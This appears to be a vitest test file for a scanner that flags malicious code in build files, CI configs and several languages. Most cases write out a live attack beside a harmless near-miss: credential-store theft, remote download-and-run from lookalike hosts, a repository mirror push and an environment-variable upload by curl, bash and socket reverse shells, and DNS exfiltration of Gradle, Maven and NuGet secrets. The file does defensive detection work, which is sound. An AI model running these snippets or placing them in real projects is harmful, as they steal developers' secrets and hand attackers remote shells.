import { describe, expect, it } from 'vitest'
import { hitsOf } from '../helpers'

/**
 * Forms of an eleventh independent red team's set (scored once before any of its forms, and held out from the
 * tenth set's; its samples are not committed), in words of our own: code in languages no rule parses, build files
 * and CI configuration. Each case pairs the attack with the honest text closest to it.
 */

describe('attacker forms, eleventh set', () => {
  it('reads credential stores in Kotlin, Swift, C#, Rust and Makefiles', () => {
    const kts = [
      'val home = System.getProperty("user.home")',
      'val stores = listOf(".kube/config", ".docker/config.json", ".config/gcloud/credentials.db", ".netrc")',
      'stores.forEach { out.append(File(home, it).readText()) }',
    ].join('\n')
    expect(hitsOf('credential_harvesting', { 'scripts/inv.main.kts': kts }))
      .toEqual(['error credential_harvesting scripts/inv.main.kts:2:1'])
    const gradle = 'val props = File(System.getProperty("user.home"), ".gradle/gradle.properties").readText()\n'
    expect(hitsOf('credential_harvesting', { 'scripts/props.main.kts': gradle })).toEqual([])
    const swift = 'let tool = ["sec", "urity"].joined()\nrun([tool, "dump-keychain", "-d"])\n'
    expect(hitsOf('credential_harvesting', { 'scripts/Check.swift': swift }))
      .toEqual(['error credential_harvesting scripts/Check.swift:2:12'])
    const cs = [
      'CredEnumerate(null, 0, out int count, out IntPtr list);',
      'var wifi = Process.Start(new ProcessStartInfo("netsh", "wlan show profiles key=clear"));',
      'File.WriteAllText("audit.json", JsonSerializer.Serialize(rows));',
    ].join('\n')
    expect(hitsOf('credential_harvesting', { 'tools/Audit/Program.cs': cs }))
      .toEqual(['error credential_harvesting tools/Audit/Program.cs:2:1'])
    const mk = [
      'KEYDIR ?= $(HOME)/.ssh',
      'bundle:',
      '\ttar czf diag.tgz $(KEYDIR)/id_* $(HOME)/.gnupg $(HOME)/.password-store',
    ].join('\n')
    expect(hitsOf('credential_harvesting', { 'scripts/Makefile': mk }))
      .toEqual(['error credential_harvesting scripts/Makefile:3:2'])
    const rs = [
      'for f in ["Login Data", "Local State"] {',
      '    let _ = fs::copy(profile.join(f), out.join(f));',
      '}',
    ].join('\n')
    expect(hitsOf('credential_harvesting', { 'build.rs': rs })).toEqual(['error credential_harvesting build.rs:1:1'])
    expect(hitsOf('credential_harvesting', { 'build.rs': rs.replace(', "Local State"', '') })).toEqual([])
  })

  it('finds the variables of several services collected by their prefixes', () => {
    const py = 'keep = {k: v for k, v in os.environ.items() if k.startswith(("AWS_", "GITHUB_", "NPM_"))}\n'
    expect(hitsOf('credential_harvesting', { 'scripts/bundle.py': py }))
      .toEqual(['error credential_harvesting scripts/bundle.py:1:26'])
    const one = 'region = {k: v for k, v in os.environ.items() if k.startswith(("AWS_REGION",))}\n'
    expect(hitsOf('credential_harvesting', { 'scripts/bundle.py': one })).toEqual([])
  })

  it('finds downloads run by a Dockerfile, an Ansible task and a Gradle build', () => {
    expect(hitsOf('remote_exec', {
      'resources/Dockerfile': 'FROM alpine:3.20\nADD https://layers.base-img-cache.io/init.sh /tmp/init.sh\nRUN sh /tmp/init.sh\n',
    })).toEqual(['error remote_exec resources/Dockerfile:3:1'])
    expect(hitsOf('remote_exec', {
      'resources/Dockerfile': 'FROM alpine:3.20\nADD scripts/init.sh /tmp/init.sh\nRUN sh /tmp/init.sh\n',
    })).toEqual([])
    const play = [
      '- hosts: all',
      '  tasks:',
      '    - ansible.builtin.get_url:',
      '        url: "http://91.215.85.40/agent.sh"',
      '        dest: /tmp/agent.sh',
      '    - ansible.builtin.shell: /tmp/agent.sh --quiet',
    ].join('\n')
    expect(hitsOf('remote_exec', { 'resources/site.yml': play })).toEqual(['error remote_exec resources/site.yml:6:5'])
    const fetched = play.replace('shell: /tmp/agent.sh --quiet', 'stat: path=/tmp/agent.sh')
    expect(hitsOf('remote_exec', { 'resources/site.yml': fetched })).toEqual([])
    expect(hitsOf('remote_exec', {
      'build.gradle.kts': 'apply(from = "https://conventions.gradle-cdn-mirror.net/latest.gradle.kts")\n',
      'other.gradle': 'apply from: \'gradle/publishing.gradle\'\n',
    })).toEqual(['error remote_exec build.gradle.kts:1:1'])
  })

  it('reads a batch file\'s variables into the remote it pushes the whole repository to', () => {
    const cmd = [
      '@echo off',
      'set H=git.repo-vault-backup.io',
      'git remote add dr https://%H%/m/%COMPUTERNAME%.git',
      'git push --mirror dr --quiet',
    ].join('\r\n')
    expect(hitsOf('exfiltration', { 'scripts/dr.cmd': cmd })).toEqual(['error exfiltration scripts/dr.cmd:4:1'])
    expect(hitsOf('exfiltration', { 'scripts/dr.cmd': cmd.replace('--mirror dr', 'origin main') })).toEqual([])
  })

  it('reads the shell of a CI configuration\'s script lists', () => {
    const ci = [
      'sync:',
      '  stage: deploy',
      '  script:',
      '    - env | sort > /tmp/job.env',
      '    - curl -fsS -F "e=@/tmp/job.env" https://artifacts.ci-mirror-cdn.com/upload',
    ].join('\n')
    expect(hitsOf('exfiltration', { 'resources/sync.gitlab-ci.yml': ci }))
      .toEqual(['error exfiltration resources/sync.gitlab-ci.yml:5:1'])
    const artifact = ci.replace('env | sort > /tmp/job.env', 'tar czf /tmp/dist.tgz dist')
      .replace('job.env', 'dist.tgz')
    expect(hitsOf('exfiltration', { 'resources/sync.gitlab-ci.yml': artifact })).toEqual([])
  })

  it('reads a template\'s port in /dev/tcp, and points at the line of a statement that names the second store', () => {
    const just = [
      'relay := "pair.devrelay-sync.io"',
      '',
      'pair:',
      '    @nohup bash -c \'bash -i >& /dev/tcp/{{relay}}/{{port}} 0>&1\' &',
    ].join('\n')
    expect(hitsOf('reverse_shell', { 'resources/justfile': just }))
      .toEqual(['error reverse_shell resources/justfile:4:21'])
    const rs = [
      'let wanted = [',
      '    "Login Data",',
      '    "Cookies",',
      '    "Local State",',
      '];',
    ].join('\n')
    expect(hitsOf('credential_harvesting', { 'build.rs': rs })).toEqual(['error credential_harvesting build.rs:4:5'])
  })

  it('finds a shell whose streams are a socket in Rust and C#', () => {
    const rs = [
      'let s = TcpStream::connect("45.61.136.90:7443").unwrap();',
      'let fd = s.as_raw_fd();',
      'Command::new("/bin/sh").arg("-i")',
      '    .stdin(unsafe { Stdio::from_raw_fd(fd) })',
      '    .stdout(unsafe { Stdio::from_raw_fd(fd) })',
      '    .spawn();',
    ].join('\n')
    expect(hitsOf('reverse_shell', { 'build.rs': rs })).toEqual(['error reverse_shell build.rs:4:5'])
    const cs = [
      'using var tcp = new TcpClient();',
      'await tcp.ConnectAsync("ops.netcore-telemetry.net", 9001);',
      'var p = Process.Start(new ProcessStartInfo("/bin/sh") { RedirectStandardInput = true });',
      'var net = tcp.GetStream();',
      '_ = p.StandardOutput.BaseStream.CopyToAsync(net);',
      'await net.CopyToAsync(p.StandardInput.BaseStream);',
    ].join('\n')
    expect(hitsOf('reverse_shell', { 'Agent.cs': cs })).toEqual(['error reverse_shell Agent.cs:5:1'])
    const log = cs.replace('"/bin/sh"', '"dotnet"').replace(/.*CopyToAsync.*\n?/g, '')
    expect(hitsOf('reverse_shell', { 'Agent.cs': log })).toEqual([])
  })

  it('finds labels cut from Gradle, Maven and NuGet credentials in Kotlin, Java and C#', () => {
    const kts = [
      'val props = File(System.getProperty("user.home") + "/.gradle/gradle.properties").readText()',
      'val hex = props.toByteArray().joinToString("") { "%02x".format(it) }',
      'hex.chunked(56).forEachIndexed { i, c -> InetAddress.getByName("$c.$i.r.plugin-status-gradle.com") }',
    ].join('\n')
    expect(hitsOf('dns_exfiltration', { 'check.gradle.kts': kts }))
      .toEqual(['error dns_exfiltration check.gradle.kts:3:54'])
    const java = [
      'Path s = Paths.get(System.getProperty("user.home"), ".m2", "settings.xml");',
      'String enc = Base64.getUrlEncoder().encodeToString(Files.readString(s).getBytes());',
      'for (int i = 0; i * 48 < enc.length(); i++)',
      '    InetAddress.getByName(enc.substring(i * 48, i * 48 + 48) + "." + i + "." + zone);',
    ].join('\n')
    expect(hitsOf('dns_exfiltration', { 'Probe.java': java })).toEqual(['error dns_exfiltration Probe.java:4:17'])
    const cs = [
      'var creds = Environment.GetEnvironmentVariable("NUGET_API_KEY");',
      'var enc = Convert.ToHexString(Encoding.UTF8.GetBytes(creds));',
      'for (int i = 0, n = 0; i < enc.Length; i += 50, n++)',
      '    Dns.GetHostEntry($"{enc.Substring(i, 50)}.{n}.{zone}");',
    ].join('\n')
    expect(hitsOf('dns_exfiltration', { 'Feed.cs': cs })).toEqual(['error dns_exfiltration Feed.cs:4:9'])
    const plain = 'var ip = Dns.GetHostEntry("api.nuget.org");\n'
    expect(hitsOf('dns_exfiltration', { 'Feed.cs': plain })).toEqual([])
  })
})
